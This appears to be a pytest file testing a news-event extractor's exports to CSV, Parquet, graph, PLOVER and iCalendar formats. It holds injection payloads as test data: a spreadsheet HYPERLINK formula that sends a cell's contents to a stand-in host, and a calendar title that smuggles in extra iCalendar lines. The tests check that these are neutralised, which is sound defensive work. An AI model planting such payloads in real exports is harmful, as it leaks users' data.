"""Exports, each read back by the tools it is made for."""

import csv
import io
import json
import sys
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from extractor.batch import read_outcomes
from extractor.cli import app
from extractor.errors import ConfigurationError
from extractor.export import FORMATS, export
from extractor.export.csv_tables import safe_cell
from extractor.export.plover import EVENT_TYPES, sides_of
from extractor.models import Outcome
from extractor.models.reply import MeetingStatus
from extractor.models.rows import COLUMNS, rows_of
from tests.replies import FRANK, HEGGE, NAIROBI, ODHIAMBO, TEXT
from tests.test_evaluation_page import HOSTILE, Page, extraction
from tests.test_report import named, outcome

FORMULA = '=HYPERLINK("http://x.test/?"&A1;"click")'
KENYA = ODHIAMBO | {"represents": "Kenya"}


def meeting(**fields):
    return NAIROBI | {"date": "2019-03-12"} | fields


def hostile():
    people = [HEGGE | {"name": FORMULA, "role": "@SUM(1)", "represents": "\0\x0b\ud800]]>"}, ODHIAMBO]
    found = extraction(
        f"{FORMULA} {TEXT} {HOSTILE}", FORMULA, "+1", people, [meeting(title="-2+3", status="planned")], [FRANK]
    )
    return outcome(found)


def one(**fields):
    return outcome(extraction(participants=(HEGGE, KENYA), meetings=(meeting(**fields),)))


# CSV


def test_pandas_reads_the_tables_back(tmp_path):
    pandas = pytest.importorskip("pandas")
    found = extraction()
    export([outcome(found)], "csv", tmp_path)
    for table in COLUMNS:
        frame = pandas.read_csv(tmp_path / f"{table}.csv", keep_default_na=False)
        assert list(frame.columns) == list(COLUMNS[table])
        [*rows] = rows_of(found, table)
        assert frame.to_dict("records") == [{name: safe_cell(cell) for name, cell in row.items()} for row in rows]


@given(st.text() | st.text("=+-@;\t\r\n '\"＝x", max_size=8))
def test_no_cell_begins_a_formula_in_any_country(text):
    for part in str(safe_cell(text)).replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        assert part.strip()[:1] not in tuple("=+-@＝＋－＠")
    assert str(safe_cell(text)).replace("'", "") == text.replace("'", "").replace("\0", "\ufffd")


def test_what_an_article_and_a_model_say_is_no_formula(tmp_path):
    export([hostile()], "csv", tmp_path)
    export([hostile()], "plover", tmp_path / "plover.csv")
    texts = [path.read_bytes().decode() for path in tmp_path.glob("*.csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@")]


# Parquet


def test_arrow_pandas_and_polars_read_the_tables_back_with_their_types(tmp_path):
    parquet, polars = pytest.importorskip("pyarrow.parquet"), pytest.importorskip("polars")
    found = extraction()
    export([outcome(found), outcome(named(found, "b"), "b.txt")], "parquet", tmp_path)
    for table in COLUMNS:
        rows = [*rows_of(found, table), *rows_of(named(found, "b"), table)]
        assert parquet.read_table(tmp_path / f"{table}.parquet").to_pylist() == rows
        assert polars.read_parquet(tmp_path / f"{table}.parquet").to_dicts() == rows


# GraphML and GEXF


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_networkx_reads_who_met_whom_back(tmp_path, form):
    networkx = pytest.importorskip("networkx")
    twice = [one(), one(date="2018-01-05", status="planned").model_copy(update={"path": "b.txt"})]
    twice[1] = twice[1].model_copy(update={"extraction": named(twice[1].extraction, "b")})
    export(twice, form, tmp_path / "g")
    graph = getattr(networkx, f"read_{form}")(tmp_path / "g")
    assert sorted(label for _, label in graph.nodes(data="label")) == ["Lars Hegge", "Wanjiru Odhiambo"]
    [(_, _, edge)] = graph.edges(data=True)
    assert {name: edge[name] for name in ("weight", "held", "planned", "status", "first")} == {
        "weight": 2,
        "held": 1,
        "planned": 1,
        "status": "held",
        "first": "2018-01-05",
    }


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_names_that_xml_cannot_hold_make_valid_xml(tmp_path, form):
    networkx = pytest.importorskip("networkx")
    export([hostile()], form, tmp_path / "g")
    assert len(getattr(networkx, f"read_{form}")(tmp_path / "g")) == 2


def test_parties_of_different_accounts_did_not_meet_each_other(tmp_path):
    networkx = pytest.importorskip("networkx")
    state = ODHIAMBO | {"name": "Kenya", "kind": "state", "role": None, "represents": None}
    other = named(extraction(participants=(HEGGE, state), meetings=(meeting(),)), "b")
    export([one(), outcome(other, "b.txt")], "graphml", tmp_path / "g")
    graph = networkx.read_graphml(tmp_path / "g")
    labels = dict(graph.nodes(data="label"))
    assert {frozenset((labels[a], labels[b])) for a, b in graph.edges} == {
        frozenset(("Lars Hegge", "Wanjiru Odhiambo")),
        frozenset(("Lars Hegge", "Kenya")),
    }


def test_what_was_cancelled_ties_nobody(tmp_path):
    networkx = pytest.importorskip("networkx")
    export([one(status="cancelled")], "graphml", tmp_path / "g")
    assert len(networkx.read_graphml(tmp_path / "g")) == 0


# PLOVER


def plover(tmp_path, **fields):
    written = export([one(**fields)], "plover", tmp_path / "p.csv")
    with (tmp_path / "p.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file)), written.left_out


def test_a_visit_has_the_visitor_as_actor_and_the_host_as_recipient(tmp_path):
    [row], _ = plover(tmp_path)
    assert {name: row[name] for name in ("Event Type", "Event Mode", "Quad Code", "Country", "Event Date")} == {
        "Event Type": "CONSULT",
        "Event Mode": "visit",
        "Quad Code": "Verbal cooperation",
        "Country": "KEN",
        "Event Date": "2019-03-12",
    }
    assert (row["Actor Name"], row["Actor Country"]) == ("Lars Hegge", "NOR")
    assert (row["Recipient Name"], row["Recipient Country"]) == ("Wanjiru Odhiambo", "KEN")


@pytest.mark.parametrize(
    ("status", "type", "mode"),
    [
        ("held", "CONSULT", "visit"),
        ("planned", "AGREE", ""),
        ("proposed", "AGREE", ""),
        ("cancelled", "REJECT", "meet"),
    ],
)
def test_what_is_to_come_is_agree_and_what_is_cancelled_is_reject(tmp_path, status, type, mode):
    [row], _ = plover(tmp_path, status=status)
    assert (row["Event Type"], row["Event Mode"], row["Status"]) == (type, mode, status)


def test_a_denied_meeting_and_an_encounter_are_no_events_and_are_counted(tmp_path):
    assert plover(tmp_path, status="denied") == ([], {"denied": 1})
    assert plover(tmp_path, format="encounter")[1] == {"an encounter of forces, which is no consultation": 1}


def party(id, kind, name, represents):
    found = extraction(
        participants=(HEGGE | {"id": id, "kind": kind, "name": name, "represents": represents},), meetings=(), claims=()
    )
    return found.participants[0]


@pytest.mark.parametrize(
    ("states", "country", "format", "mode", "actors"),
    [
        (["Norway", "Kenya"], "FR", "in_person", "third-party", 2),
        (["Norway", "Kenya"], "KE", "in_person", "visit", 1),
        (["Norway", "Kenya"], "KE", "call", "phone", 2),
        (["Norway", "Kenya"], None, "in_person", "", 2),
        (["Norway", "Kenya"], "KE", "unspecified", "", 2),
        (["Norway", "Kenya", "Peru"], "KE", "in_person", "multilateral", 3),
        (["Norway", "Hezbollah"], "FR", "in_person", "", 2),
        (["Norway", "Norway"], "NO", "in_person", "", 2),
        (["Norway", "Norway", "Kenya"], "KE", "in_person", "visit", 2),
    ],
)
def test_the_mode_follows_from_place_and_parties(states, country, format, mode, actors):
    [base] = extraction().meetings
    found = sides_of(
        [party(f"p{n}", "person", f"Name {n}", state) for n, state in enumerate(states)],
        base.model_copy(update={"country": country, "format": format}),
    )
    assert (found.mode, len(found.actors)) == (mode, actors)


def test_every_status_but_denied_has_an_event_type():
    assert set(EVENT_TYPES) | {"denied"} == set(MeetingStatus.__args__)


# iCalendar


def events(tmp_path, *outcomes):
    icalendar = pytest.importorskip("icalendar")
    written = export(outcomes, "ics", tmp_path / "c.ics")
    calendar = icalendar.Calendar.from_ical((tmp_path / "c.ics").read_bytes())
    return list(calendar.walk("VEVENT")), written.left_out


def test_a_planned_meeting_is_a_day_in_the_calendar(tmp_path):
    [event], left_out = events(tmp_path, one(status="planned"))
    assert (event.decoded("dtstart"), event.decoded("dtend")) == (date(2019, 3, 12), date(2019, 3, 13))
    assert (str(event["summary"]), str(event["status"]), str(event["location"])) == (
        "A meeting",
        "CONFIRMED",
        "Nairobi",
    )
    assert event.decoded("dtstamp") == datetime(2024, 1, 1, tzinfo=UTC)
    assert "Lars Hegge, Wanjiru Odhiambo" in str(event["description"])
    assert left_out == {}


def test_held_meetings_are_no_entries_and_what_has_no_day_is_counted(tmp_path):
    found, left_out = events(tmp_path, one(), one(status="planned", date=None), one(status="proposed", date="2019-03"))
    assert (found, left_out) == ([], {"no date": 1, "no day": 1})


def test_a_calendar_holds_hostile_words_as_words(tmp_path):
    [event], _ = events(
        tmp_path, outcome(extraction(meetings=(meeting(status="planned", title="A\r\nEND:VEVENT\x00\nATTACH:x"),)))
    )
    assert str(event["summary"]) == "A END:VEVENT ATTACH:x"
    assert "ATTACH" not in event


# All of them


def test_json_lines_are_read_back_as_they_were(tmp_path):
    export([one()], "jsonl", tmp_path / "x.jsonl")
    assert list(read_outcomes(tmp_path / "x.jsonl")) == [one()]


@pytest.mark.parametrize("form", FORMATS)
def test_a_run_without_extractions_is_exported_all_the_same(tmp_path, form):
    copy = Outcome(article_id="a", path="a", key="", kind="duplicate", reason="b")
    written = export([copy], form, tmp_path / "out")
    assert all(path.stat().st_size or form == "jsonl" for path in written.paths)


@pytest.mark.parametrize("form", FORMATS)
def test_an_export_that_fails_leaves_the_old_file_and_no_other(tmp_path, form):
    out = tmp_path / "out"
    export([one()], form, out)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}

    def broken():
        yield one()
        raise OSError("gone")

    with pytest.raises(OSError, match="gone"):
        export(Twice(broken), form, out)
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


class Twice:
    def __init__(self, make):
        self.make = make

    def __iter__(self):
        return self.make()


@pytest.mark.parametrize(
    ("form", "module", "extra"),
    [("parquet", "pyarrow", "parquet"), ("gexf", "networkx", "network"), ("ics", "icalendar", "calendar")],
)
def test_a_missing_library_is_one_sentence_that_names_the_extra(tmp_path, monkeypatch, form, module, extra):
    (tmp_path / "run.jsonl").write_text(one().model_dump_json() + "\n")
    monkeypatch.setitem(sys.modules, module, None)
    result = CliRunner().invoke(
        app, ["export", str(tmp_path / "run.jsonl"), "--format", form, "--out", str(tmp_path / "x")]
    )
    assert result.exit_code == 2
    assert f"'news-event-extractor[{extra}]'" in " ".join(result.stderr.split())


def test_the_command_prints_json_lines_and_wants_a_place_for_the_rest(tmp_path):
    (tmp_path / "run.jsonl").write_text(one().model_dump_json() + "\n")
    printed = CliRunner().invoke(app, ["export", str(tmp_path / "run.jsonl")])
    assert json.loads(printed.stdout)["article_id"] == "a1"
    refused = CliRunner().invoke(app, ["export", str(tmp_path / "run.jsonl"), "--format", "csv"])
    assert (refused.exit_code, "--out PATH" in refused.stderr) == (2, True)


# Frames and notebooks


@pytest.mark.parametrize("library", ["pandas", "polars"])
def test_a_missing_frame_library_is_one_sentence_too(monkeypatch, library):
    monkeypatch.setitem(sys.modules, library, None)
    with pytest.raises(ConfigurationError, match=rf"news-event-extractor\[{library}\]"):
        getattr(extraction(), f"to_{library}")()


def test_frames_have_every_column_even_where_there_is_no_row():
    pytest.importorskip("pandas")
    pytest.importorskip("polars")
    for found in (extraction(), extraction(meetings=(), claims=())):
        ours, theirs = found.to_pandas(), found.to_polars()
        for table in COLUMNS:
            assert list(ours[table].columns) == theirs[table].columns == list(COLUMNS[table])
            assert len(ours[table]) == theirs[table].height == len(list(rows_of(found, table)))


def test_a_notebook_shows_hostile_words_as_words():
    found = extraction(
        f"{HOSTILE} {TEXT}",
        HOSTILE,
        HOSTILE,
        [HEGGE | {"name": HOSTILE}, ODHIAMBO],
        [meeting(title="$\\x$" + HOSTILE)],
        [FRANK],
    )
    shown = found._repr_html_()
    page = Page(shown)
    assert {tag for tag, _ in page.elements} == {"div", "p", "b", "table", "thead", "tbody", "tr", "th", "td"}
    assert page.open == []
    assert HOSTILE in page.text
    assert "$" not in shown
